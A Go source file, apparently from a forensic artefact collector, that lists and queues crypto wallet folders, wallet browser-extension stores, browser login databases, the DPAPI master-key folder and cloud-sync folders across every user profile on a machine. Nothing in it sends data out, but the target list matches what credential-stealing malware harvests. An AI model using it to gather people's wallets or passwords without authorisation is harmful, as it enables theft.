// Package locations produces the deterministic list of known artefact
// locations (wallet directories, browser extension and credential stores,
// cloud-sync folders, and optionally the DPAPI protect folder) and feeds each
// one that exists into the artefact queue.
package locations

import (
	"os"
	"path/filepath"
	"runtime"
	"strconv"

	"github.com/ilexum-group/cobra/internal/queue"
	"github.com/ilexum-group/cobra/internal/utils"
)

// Category identifies a group of known locations. Categories are enumerated
// in a fixed order, which is preserved in the queue and the final manifest.
type Category string

const (
	// CategoryWallets covers desktop wallet data directories.
	CategoryWallets Category = "wallets"

	// CategoryBrowserExtensions covers wallet browser extension stores.
	CategoryBrowserExtensions Category = "browser_extensions"

	// CategoryBrowserCredentials covers browser credential databases.
	CategoryBrowserCredentials Category = "browser_credentials"

	// CategoryDPAPI covers the Windows DPAPI master key folder. Only
	// enumerated when explicitly requested.
	CategoryDPAPI Category = "dpapi"

	// CategoryCloudSync covers local folders of cloud-sync clients.
	CategoryCloudSync Category = "cloud_sync"
)

// Location is one resolved known-location candidate.
type Location struct {
	Category Category
	Path     string
}

// Wallet browser extension IDs collected from Chromium-based profiles.
// MetaMask, Phantom, and TronLink respectively.
var chromiumExtensionIDs = []string{
	"nkbihfbeogaeaoehlefnkodbefgpgknn",
	"bfnaelmomeimhlpmgjnjophhpkkoljpa",
	"ibnejdfjmmkpcnlpebklmnkoeoihofec",
}

// categoryOrder is the fixed enumeration order. DPAPI sits between browser
// credentials and cloud-sync when it is included.
func categoryOrder(includeDPAPI bool) []Category {
	order := []Category{CategoryWallets, CategoryBrowserExtensions, CategoryBrowserCredentials}
	if includeDPAPI {
		order = append(order, CategoryDPAPI)
	}
	return append(order, CategoryCloudSync)
}

// profileRelTemplates returns the per-category path templates relative to a
// user profile root for the given platform.
func profileRelTemplates(goos string) map[Category][]string {
	switch goos {
	case "windows":
		templates := map[Category][]string{
			CategoryWallets: {
				`AppData\Roaming\Bitcoin`,
				`AppData\Roaming\Electrum\wallets`,
				`AppData\Roaming\Ethereum\keystore`,
				`AppData\Roaming\Exodus`,
				`AppData\Roaming\atomic`,
				`AppData\Roaming\Armory`,
				`AppData\Local\Coinomi\Coinomi\wallets`,
			},
			CategoryBrowserCredentials: {
				`AppData\Local\Google\Chrome\User Data\Default\Login Data`,
				`AppData\Local\Microsoft\Edge\User Data\Default\Login Data`,
				`AppData\Local\BraveSoftware\Brave-Browser\User Data\Default\Login Data`,
				`AppData\Roaming\Mozilla\Firefox\Profiles`,
			},
			CategoryDPAPI: {
				`AppData\Roaming\Microsoft\Protect`,
			},
			CategoryCloudSync: {
				`Dropbox`,
				`OneDrive`,
				`Google Drive`,
			},
		}
		extensionRoots := []string{
			`AppData\Local\Google\Chrome\User Data\Default\Local Extension Settings`,
			`AppData\Local\Microsoft\Edge\User Data\Default\Local Extension Settings`,
			`AppData\Local\BraveSoftware\Brave-Browser\User Data\Default\Local Extension Settings`,
		}
		templates[CategoryBrowserExtensions] = expandExtensionIDs(extensionRoots, `\`)
		return templates
	case "darwin":
		templates := map[Category][]string{
			CategoryWallets: {
				"Library/Application Support/Bitcoin",
				".electrum/wallets",
				"Library/Ethereum/keystore",
				"Library/Application Support/Exodus",
				"Library/Application Support/atomic",
			},
			CategoryBrowserCredentials: {
				"Library/Application Support/Google/Chrome/Default/Login Data",
				"Library/Application Support/Firefox/Profiles",
			},
			CategoryCloudSync: {
				"Dropbox",
				"Library/Mobile Documents/com~apple~CloudDocs",
				"Library/CloudStorage",
			},
		}
		extensionRoots := []string{
			"Library/Application Support/Google/Chrome/Default/Local Extension Settings",
			"Library/Application Support/BraveSoftware/Brave-Browser/Default/Local Extension Settings",
		}
		templates[CategoryBrowserExtensions] = expandExtensionIDs(extensionRoots, "/")
		return templates
	default:
		templates := map[Category][]string{
			CategoryWallets: {
				".bitcoin",
				".electrum/wallets",
				".ethereum/keystore",
				".config/Exodus",
				".config/atomic",
			},
			CategoryBrowserCredentials: {
				".config/google-chrome/Default/Login Data",
				".mozilla/firefox",
			},
			CategoryCloudSync: {
				"Dropbox",
			},
		}
		extensionRoots := []string{
			".config/google-chrome/Default/Local Extension Settings",
			".config/BraveSoftware/Brave-Browser/Default/Local Extension Settings",
		}
		templates[CategoryBrowserExtensions] = expandExtensionIDs(extensionRoots, "/")
		return templates
	}
}

func expandExtensionIDs(roots []string, sep string) []string {
	var out []string
	for _, root := range roots {
		for _, id := range chromiumExtensionIDs {
			out = append(out, root+sep+id)
		}
	}
	return out
}

// ResolveForRoot resolves every template against one profile root, in the
// fixed category order. Existence is not checked here; queue.Add absorbs
// missing paths.
func ResolveForRoot(root string, includeDPAPI bool) []Location {
	return resolveForRoot(root, runtime.GOOS, includeDPAPI)
}

func resolveForRoot(root, goos string, includeDPAPI bool) []Location {
	templates := profileRelTemplates(goos)
	var out []Location
	for _, cat := range categoryOrder(includeDPAPI) {
		for _, rel := range templates[cat] {
			out = append(out, Location{
				Category: cat,
				Path:     filepath.Join(root, filepath.FromSlash(rel)),
			})
		}
	}
	return out
}

// ProfileRoots returns the user profile roots to enumerate. The calling
// user's home directory always comes first; on Windows the offline registry
// ProfileList adds the remaining local users so a single run covers every
// profile on the machine.
func ProfileRoots() []string {
	var roots []string
	if home, err := os.UserHomeDir(); err == nil && home != "" {
		roots = append(roots, home)
	}
	if runtime.GOOS == "windows" {
		for _, r := range windowsProfileRoots() {
			roots = appendUnique(roots, r)
		}
	}
	return roots
}

func appendUnique(roots []string, candidate string) []string {
	for _, r := range roots {
		if filepath.Clean(r) == filepath.Clean(candidate) {
			return roots
		}
	}
	return append(roots, candidate)
}

// Enumerate resolves the known-location templates for every profile root and
// adds each existing path to the queue. Returns the number of paths queued.
func Enumerate(q *queue.Queue, includeDPAPI bool) int {
	return EnumerateRoots(q, ProfileRoots(), includeDPAPI)
}

// EnumerateRoots is Enumerate with explicit profile roots. Enumeration is
// category-major so the queue keeps the fixed category order even with
// multiple user profiles.
func EnumerateRoots(q *queue.Queue, roots []string, includeDPAPI bool) int {
	byCategory := make(map[Category][]string)
	for _, root := range roots {
		for _, loc := range ResolveForRoot(root, includeDPAPI) {
			byCategory[loc.Category] = append(byCategory[loc.Category], loc.Path)
		}
	}

	added := 0
	for _, cat := range categoryOrder(includeDPAPI) {
		count := 0
		for _, path := range byCategory[cat] {
			if q.Add(path) {
				count++
			}
		}
		if count > 0 {
			utils.LogInfo("Known locations queued", map[string]string{
				"category": string(cat),
				"count":    strconv.Itoa(count),
			})
		}
		added += count
	}
	return added
}
